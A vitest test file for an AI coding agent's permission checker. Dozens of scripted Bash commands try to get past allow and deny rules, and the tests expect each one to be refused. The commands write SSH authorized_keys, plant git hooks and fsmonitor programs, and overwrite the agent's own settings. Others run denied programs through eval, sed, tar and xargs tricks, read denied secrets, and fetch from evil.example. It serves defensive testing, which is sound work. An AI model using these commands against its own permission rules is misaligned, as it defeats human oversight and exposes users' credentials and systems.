/** Attempts to evade rules, in the real program. Each run makes many attempts. */
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { call, say } from '@heddle/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { install, type Installed, runProgram } from '../test/program.ts';

let program = '';
let installed: Installed;
beforeAll(async () => {
  installed = await install();
  ({ program } = installed);
});
afterAll(() => installed.remove());

interface Settings {
  readonly allow?: readonly string[];
  readonly deny?: readonly string[];
  readonly examples?: Readonly<Record<string, object>>;
}

/** A home with the user's settings, and a project in it. */
function place(permissions: Settings) {
  const home = mkdtempSync(path.join(os.tmpdir(), 'heddle-evasion-'));
  const project = path.join(home, 'project');
  mkdirSync(project);
  mkdirSync(path.join(home, '.heddle'));
  writeFileSync(path.join(home, '.heddle/settings.json'), JSON.stringify({ permissions }));
  const env = { HOME: home, HEDDLE_CONFIG_DIR: path.join(home, '.heddle') };
  const run = (...argv: string[]) => runProgram(program, argv, { cwd: project, env });
  /** Runs the commands one after the other. Returns those that were not allowed. */
  const refused = async (commands: readonly string[], ...flags: string[]): Promise<string[]> => {
    const script = path.join(home, 'script.json');
    const steps = commands.map((command, index) => call('Bash', { command }, `b${index}`));
    writeFileSync(script, JSON.stringify([...steps, say('Done.')]));
    const { stdout } = await run(
      '-p',
      'go',
      '--model',
      `scripted:${script}`,
      '--output-format',
      'json',
      ...flags,
    );
    const { permission_denials: denials } = JSON.parse(stdout) as {
      permission_denials: { tool_input: { command: string } }[];
    };
    return denials.map(({ tool_input: { command } }) => command);
  };
  return { home, project, run, refused };
}

describe('a protected place', () => {
  it('is not changed by commands that rules and the mode allow', async () => {
    const { home, refused } = place({ allow: ['Bash', 'Edit', 'Edit(//**)'] });
    const commands = [
      'mkdir -p ~/.ssh && echo key >> ~/.ssh/authorized_keys',
      'mkdir -p .hg && printf x > .hg/hgrc',
      'tee .codex.toml .codex/config.toml < /dev/null',
      'mkdir -p .gemini; touch .gemini/settings.json',
      'cp /dev/null .envrc',
      'touch .aider.conf.yml',
      'echo x | tee ~/.netrc',
      'mkdir -p ~/.kube && touch ~/.kube/config',
      'touch ~/.config/autostart/x.desktop',
      'install -m 600 /dev/null ~/.gnupg',
      'ln -s /dev/null .cursor',
      'dd if=/dev/null of=.heddle/settings.json',
    ];
    expect(await refused([...commands, 'touch plain'], '--permission-mode', 'acceptEdits')).toEqual(commands);
    expect(existsSync(path.join(home, '.ssh'))).toBe(false);
    expect(existsSync(path.join(home, 'project/plain'))).toBe(true);
  });
});

describe('links in the project', () => {
  /** A project with links that lead out of it, to its protected places and to a denied file. */
  function linkedPlace(permissions: Settings) {
    const made = place(permissions);
    const { home, project } = made;
    for (const folder of ['outside', 'project/dst', 'project/.git/hooks', 'project/t2/tmpl', 'project/tmpl'])
      mkdirSync(path.join(home, folder), { recursive: true });
    for (const folder of ['nested/p/.git', 'node_modules/.bin', 'secrets', 'd', 'plain'])
      mkdirSync(path.join(project, folder), { recursive: true });
    for (const file of ['a', 'tmpl/cfg', '.git/config', 'nested/p/.git/config', 'secrets/key', 'plain/x'])
      writeFileSync(path.join(project, file), file);
    const outside = path.join(home, 'outside');
    writeFileSync(path.join(outside, 'f'), 'kept');
    symlinkSync(path.join(outside, 'f'), path.join(project, 'dst/f'));
    symlinkSync('../.git/hooks', path.join(project, 'dst/hooks'));
    symlinkSync(outside, path.join(project, 'o'));
    symlinkSync('../../.git/config', path.join(project, 't2/tmpl/cfg'));
    symlinkSync('../secrets/key', path.join(project, 'd/k'));
    return { ...made, outside };
  }

  it('lead no edit outside or to a protected place, also if the same script moves them', async () => {
    const { project, outside, refused } = linkedPlace({});
    const commands = [
      'mv dst q && cp a q/f',
      'cp -a dst q; echo x > q/f',
      'cp -a o q && touch q/N',
      'mv dst q; echo x > q/hooks/pre-commit',
      'for i in 1 2; do touch q/N; mv o q; done',
      'echo "$(mv dst q)" > q/f',
      'mv o q; cd q; touch N',
      'cp -r tmpl t2',
      'rm -rf nested',
      'mv nested n2',
      'echo x > node_modules/.bin/ls',
    ];
    const fine = ['mv plain p2 && echo x > p2/y', 'cp -r p2 p3; touch p3/z', 'rm -rf p3'];
    expect(await refused([...commands, ...fine], '--permission-mode', 'acceptEdits')).toEqual(commands);
    expect(readdirSync(outside)).toEqual(['f']);
    expect(readFileSync(path.join(outside, 'f'), 'utf8')).toBe('kept');
    expect(readdirSync(path.join(project, '.git/hooks'))).toEqual([]);
    expect(readFileSync(path.join(project, '.git/config'), 'utf8')).toBe('.git/config');
    expect(existsSync(path.join(project, 'p2/y'))).toBe(true);
  });

  it('show no denied file, also if the same script moves them', async () => {
    const { refused } = linkedPlace({ deny: ['Read(./secrets/**)'] });
    const commands = [
      'mv d j; cat j/k',
      'cp -a d j; cat j/k',
      'ln -s d j; cat j/k',
      "bash -c 'mv d j; cat j/k'",
      'grep -R . d',
      'diff -r d plain',
      'find d -exec cat {} +',
      'cp -rL d x',
      'tar chf - d',
      'sort --files0-from=a',
      "sed 'r d/k' a",
    ];
    const fine = ['grep -r . d plain', 'mv plain p2; cat p2/x', 'cp -a d p3'];
    expect(await refused([...commands, ...fine], '--permission-mode', 'bypassPermissions')).toEqual(commands);
  });
});

describe('a command that a rule allows', () => {
  it('names no protected place and none outside, wherever in its words', async () => {
    const programs =
      'curl wget tar split csplit awk sed sort gcc git openssl python3 perl make npm unknown less shuf';
    const { home, refused } = place({ allow: programs.split(' ').map((program) => `Bash(${program} *)`) });
    const commands = [
      'curl --trace-ascii=.npmrc h',
      'curl --dump-header .git/hooks/x h',
      'wget --rejected-log=.envrc h',
      'tar --listed-incremental=.husky/x -cf x.tar y',
      'split --additional-suffix=x /etc/hosts .vscode/',
      'csplit -f.git/hooks/x /etc/hosts 1',
      'awk \'BEGIN { o = ".claude/settings.json"; print > o }\'',
      "sed -n 'w ../outside' /etc/hosts",
      'sort -T.git/hooks /etc/hosts',
      'gcc -MD -MF.git/config x.c',
      'git bundle create ../outside HEAD',
      'openssl rand -out ~/.ssh/id 9',
      'python3 -c \'open("../outside", "w")\'',
      "perl -e 'open F, q(>../outside)'",
      'make -C.. all',
      'npm --cache=/tmp/outside test',
      'unknown x,~/outside',
      'unknown "see $HOME/.bashrc"',
      'shuf -o ../outside /etc/hosts',
    ];
    const fine = [
      'make --version',
      'npm --version',
      'awk \'BEGIN { print 1 > "inside" }\'',
      'split inside part',
    ];
    expect(await refused([...commands, ...fine])).toEqual(commands);
    expect(existsSync(path.join(home, 'outside'))).toBe(false);
    expect(existsSync(path.join(home, 'project/inside'))).toBe(true);
  });

  it('runs in the folders of the session only', async () => {
    const { home, project, refused } = place({ allow: ['Bash(make *)', 'Bash(npm *)', 'Bash(env *)'] });
    const outside = path.join(home, 'outside');
    mkdirSync(outside);
    symlinkSync(outside, path.join(project, 'link'));
    for (const folder of [outside, project])
      writeFileSync(path.join(folder, 'Makefile'), 'all:\n\ttouch ran\n');
    const commands = [
      `cd ${outside} && make all`,
      `(cd ${outside}; make all)`,
      `pushd ${outside} && make all`,
      'cd ../outside; make all',
      'cd link && make all',
      'cd ~/outside || exit 1; make all',
      'cd; make all',
      'cd "$HOME/outside" && make all',
      'cd - && make all',
      'if cd ../outside; then make all; fi',
      'for d in ../outside; do cd $d && make all; done',
      `make -C ${outside} all`,
      'make -C../outside all',
      'make --directory=../outside all',
      'make -f ../outside/Makefile all',
      'npm --prefix ../outside test',
      'env -C ../outside make all',
      'env --chdir=../outside make all',
      'make -C link all',
    ];
    // The shell returns after each call, so the last one runs in the project.
    const moves = [`cd ${outside}`, 'cd link', 'cd ~/outside', 'make all'];
    expect(await refused([...commands, ...moves])).toEqual(commands);
    expect(existsSync(path.join(outside, 'ran'))).toBe(false);
    expect(existsSync(path.join(project, 'ran'))).toBe(true);
  });
});

describe('a command with words that are known only when it runs', () => {
  it('is not covered by a rule with a wildcard', async () => {
    const { home, project, refused } = place({ allow: ['Bash(make *)', 'Bash(xargs *)'] });
    const outside = path.join(home, 'outside');
    mkdirSync(outside);
    mkdirSync(path.join(project, 'sub'));
    symlinkSync(outside, path.join(project, 'sub/link'));
    for (const folder of [outside, path.join(project, 'sub')])
      writeFileSync(path.join(folder, 'Makefile'), 'all:\n\ttouch ran\n');
    const commands = [
      'make -C ~+/../outside all',
      'make -C ~0/../outside all',
      'make -C ${PWD%/*}/outside all',
      'make -C "${PWD/project/outside}" all',
      'x=../outside; make -C $x all',
      'x=..; make -C "$x/outside" all',
      'for d in ../outside; do make -C $d all; done',
      'make -C$(echo ../outside) all',
      'make -C {sub,../outside} all',
      'make -C s*b/link all',
      'make -C sub/[l]ink all',
      'make -C sub/???? all',
      'for d in sub/l*; do make -C "$d" all; done',
      'echo ../outside | xargs make all -C',
      "make -f - <<'E'\nall:\n\ttouch ../outside/ran\nE",
      "make -f /dev/stdin <<< 'all:; touch ../outside/ran'",
      "printf 'all:; touch ../outs''ide/ran' | make -f -",
    ];
    const fine = ['x=sub; make -C $x all', 'make -C s*b all', 'make -j$(nproc) -C "$PWD/sub" all'];
    expect(await refused([...commands, ...fine])).toEqual(commands);
    expect(existsSync(path.join(outside, 'ran'))).toBe(false);
    expect(existsSync(path.join(project, 'sub/ran'))).toBe(true);
  });
});

describe('a rule with a wildcard', () => {
  it('covers no option, setting or input that runs another program or writes settings', async () => {
    const rules = ['Bash(make *)', 'Bash(npm run *)', 'Bash(git *)', 'Bash(tar *)'];
    const { home, project, refused } = place({ allow: rules });
    const outside = path.join(home, 'outside');
    mkdirSync(outside);
    const ran = path.join(project, 'ran');
    const evil = path.join(project, 'x.sh');
    writeFileSync(evil, `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
    writeFileSync(path.join(outside, 'M'), `all:\n\ttouch ${ran}\n`);
    writeFileSync(path.join(outside, 'npmrc'), `script-shell=${evil}\n`);
    writeFileSync(path.join(project, 'package.json'), '{"scripts":{"x":"true"}}');
    execFileSync('git', ['-C', project, 'init', '-q']);
    execFileSync('tar', ['-C', project, '-cf', path.join(project, 't.tar'), 'package.json']);
    const commands = [
      'make -f - < ../outside/M',
      'make -f /dev/fd/3 3< ../outside/M',
      '{ make -f -; } < ../outside/M',
      'npm run x --userconfig=../outside/npmrc',
      'npm run x --script-shell=./x.sh',
      'git config --global core.pager ./x.sh',
      'git config core.fsmonitor ./x.sh',
      'git -c alias.z=!./x.sh z',
      'git -c core.fsmonitor=./x.sh status',
      'git log --show-signature',
      'tar -xf t.tar --to-command=./x.sh',
    ];
    const fine = ['git config user.name x', 'git -c color.ui=never status', 'tar -tf t.tar'];
    expect(await refused([...commands, ...fine])).toEqual(commands);
    expect(existsSync(ran)).toBe(false);
    expect(existsSync(path.join(home, '.gitconfig'))).toBe(false);
  });
});

describe('a file that may not be read', () => {
  it('is not printed by searches, lists of names and stored objects', async () => {
    const { project, refused } = place({
      deny: ['Read(./.env)', 'Read(./sub/.env)', 'Read(./secrets/**)'],
    });
    const git = (...args: string[]) =>
      execFileSync('git', ['-C', project, '-c', 'user.name=a', '-c', 'user.email=a@b', ...args]);
    for (const folder of ['secrets', 'src', 'sub']) mkdirSync(path.join(project, folder));
    for (const file of ['.env', 'sub/.env', 'secrets/key', 'src/b.ts'])
      writeFileSync(path.join(project, file), 'KEY=1\n');
    writeFileSync(path.join(project, 'list'), 'secrets/key\n');
    git('init', '-q');
    git('add', '-A');
    git('commit', '-qm', 'area: text');
    git('tag', 'file', 'HEAD:.env');
    git('config', 'stash.showPatch', 'true');
    const commands = [
      'grep -1eKEY secrets/key',
      "grep -5d recurse '' .",
      'grep --regexp= secrets/key',
      'strings @list',
      "rg '' -g .env",
      'rg KEY -tall',
      'rg --ignore KEY .env',
      'git grep -eKEY HEAD',
      'git show -s --tags',
      'git show HEAD:src/b.ts --tags',
      "git show 'HEAD^{/area: text}'",
      'git log -p --until -- HEAD',
      'git stash show',
      'xzcat -f --files=list',
    ];
    const fine = [
      'rg KEY sub',
      'rg -n KEY src',
      'grep -rn KEY src',
      'strings src/b.ts',
      'git log --oneline -5',
      'git show --stat HEAD',
      'git diff --stat',
    ];
    expect(await refused([...commands, ...fine], '--permission-mode', 'acceptEdits')).toEqual(commands);
    writeFileSync(path.join(project, 'sub/.ignore'), '!.env\n');
    expect(await refused(['rg KEY sub', 'rg KEY src', 'cd sub && rg KEY'])).toEqual([
      'rg KEY sub',
      'cd sub && rg KEY',
    ]);
  });
});

describe('a folder that is not trusted', () => {
  it('runs no program that its git configuration names, also not in the read-only view', async () => {
    const { project, refused } = place({});
    const git = (...args: string[]) => execFileSync('git', ['-C', project, ...args]);
    git('init', '-q');
    writeFileSync(path.join(project, 'a'), 'one');
    git('add', 'a');
    writeFileSync(path.join(project, 'a'), 'two');
    writeFileSync(path.join(project, 'x.sh'), '#!/bin/sh\necho it ran >&2\n', { mode: 0o755 });
    git('config', 'diff.external', './x.sh');
    const commands = ['git diff', 'git diff --some-option', 'git -C . diff', 'git --no-pager diff'];
    expect(await refused([...commands, 'git diff --stat', 'git rev-parse --git-dir'])).toEqual([
      ...commands,
      'git diff --stat',
    ]);
  });
});

describe('a deny rule', () => {
  it('is not evaded in bypassPermissions by code that is not understood', async () => {
    const { project, refused } = place({ deny: ['Bash(touch *)'] });
    writeFileSync(
      path.join(project, 'run'),
      '#!/bin/bash\nfor tail in "$@"; do eval "${tail#*=}"; done; "$@"\n',
      {
        mode: 0o755,
      },
    );
    const commands = [
      '. <(echo touch made)',
      'source /dev/stdin <<< "touch made"',
      'echo touch made | bash -s',
      'bash -c "$(printf \'touch made\')"',
      'perl -e \'system("tou"."ch made")\'',
      "python3 - <<'E'\nopen('made','w')\nE",
      'awk \'BEGIN{system("tou" "ch made")}\'',
      "sed '1e tou''ch made' /etc/hosts",
      "sed -n 's/^.*$/touch made/ep' /etc/hosts",
      'echo made | xargs -I{} sh -c "tou""ch {}"',
      'echo touch | xargs -I% % made',
      'find /bin/touch -exec {} made \\;',
      'cp /bin/touch t && ./t made',
      'echo touch made > s; sh ./s',
      "printf 'all:;touch made' | make -f -",
      'sort --compress-program=touch /etc/hosts',
      "split --filter='touch made' /etc/hosts",
      "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='tou''ch made' .",
      'X=touch; $X made',
      '/bin/tou?h made',
      'env A=1 $(echo touch) made',
      'busybox touch made',
      "git -c alias.x='!touch made' x",
      "GIT_PAGER='touch made' git --paginate log",
      "trap 'touch made' EXIT",
      // Programs that are not known to run others.
      './run touch made',
      './run x /bin/touch made',
      './run --cmd="touch made"',
      './run "env A=1 touch made"',
      'x=touch; ./run $x made',
      'gcc -wrapper touch,made x.c',
      'ip netns exec x touch made',
      "apt-get -o APT::Update::Pre-Invoke::='touch made' update",
    ];
    const fine = [
      'echo hello',
      'bash -c "echo hi; ls"',
      "awk '{print $1}' /etc/hosts",
      'node --version',
      './run true',
    ];
    expect(await refused([...commands, ...fine], '--dangerously-skip-permissions')).toEqual(commands);
    expect(existsSync(path.join(project, 'made'))).toBe(false);
  });
});

describe('a deny rule about a file or a host', () => {
  it('is not evaded in bypassPermissions by abbreviated or unknown options', async () => {
    const deny = ['Edit(./config/**)', 'Read(./secrets/**)', 'Bash(rm *)', 'WebFetch(domain:evil.example)'];
    const { project, refused } = place({ deny });
    for (const folder of ['config', 'secrets', 'src']) mkdirSync(path.join(project, folder));
    for (const file of ['a', 'secrets/key', 'src/b']) writeFileSync(path.join(project, file), 'one\n');
    const commands = [
      'cp --target=config a',
      'sort --outp=config/x a',
      'shuf -o config/x a',
      "sed -i'config/*' s/a/b/ a",
      'awk \'{ print > "config/" NR }\' a',
      `python3 - <<< 'open("config/x", "w")'`,
      'tar c --dir=secrets key',
      'date -f secrets/key',
      'rgrep one',
      "sed '1e cat secrets/key' a",
      'cmake -E env rm a',
      'curl https://evil.example/x',
      'git clone https://evil.example/x.git',
    ];
    const fine = ['cp --target=src a', 'shuf -o src/x a', 'echo evil.example', 'rgrep one src'];
    expect(await refused([...commands, ...fine], '--dangerously-skip-permissions')).toEqual(commands);
    expect(readdirSync(path.join(project, 'config'))).toEqual([]);
    expect(readdirSync(path.join(project, 'src')).sort()).toEqual(['a', 'b', 'x']);
  });
});

describe('a rule', () => {
  it('names servers exactly and hosts in every spelling, and is fast', async () => {
    const long = 'x'.padEnd(9_000, 'a');
    const folders = 'a/'.repeat(2_000);
    /** Patterns with many wildcards, each with a long text that almost matches. */
    const slow: readonly (readonly [string, string])[] = [
      [`Bash(${'*a'.repeat(12)}*b)`, long],
      ['Bash(*a*a*a*a*a*b)', long],
      ['Bash(x*a *a *a *a *a *b)', `x${'a '.repeat(4_500)}`],
      ['Bash(**a**a**a**a**a**b)', long],
      ['Bash(*:*:*:*:*:*;)', ':'.repeat(9_000)],
      ['Read(//**/a/**/a/**/a/**/a/**/b)', `/${folders}c`],
      ['Read(//**/*a*a*a*a*a*b)', `/${long}`],
      ['Edit(//**/**/**/**/**/**/b)', `/${folders}c`],
      ['WebFetch(domain:*.a.*.a.*.a.*.a.*.b)', 'a.'.repeat(4_000) + 'c'],
      ['WebFetch(domain:*a*a*a*a*a*b)', 'a'.repeat(9_000)],
      ['mcp__x__*a*a*a*a*a*b', `mcp__x__${long}`],
    ];
    const { run } = place({
      allow: [
        'mcp__github',
        'mcp__github__get_*',
        'WebFetch(domain:*.bücher.de)',
        ...slow.map(([rule]) => rule),
      ],
      deny: ['WebFetch(domain:böse.org)'],
      examples: {
        mcp__github: {
          match: ['mcp__github__search', 'mcp__github__get_issue'],
          not_match: [
            'mcp__github__evil__search',
            'mcp__github___evil__x',
            'mcp__github___x',
            'mcp__github_evil__x',
            'mcp__githubevil__x',
            'mcp__GitHub__x',
          ],
        },
        'mcp__github__get_*': { match: ['mcp__github__get_a'], not_match: ['mcp__github__get_a__b'] },
        'WebFetch(domain:*.bücher.de)': {
          match: ['shop.bücher.de', 'SHOP.BÜCHER.DE', 'a.xn--bcher-kva.de', 'a.bücher.de.'],
          not_match: ['bücher.de', 'shop.bucher.de', 'shop.bücher.de.evil.org'],
        },
        'WebFetch(domain:böse.org)': { match: ['böse.org', 'xn--bse-sna.org', 'BÖSE.ORG'] },
        ...Object.fromEntries(slow.map(([rule, text]) => [rule, { not_match: [text] }])),
      },
    });
    const { stdout, code } = await run('permissions', 'test');
    expect({ code, stdout }).toEqual({ code: 0, stdout: '31 examples, 0 failed\n' });
  });
});
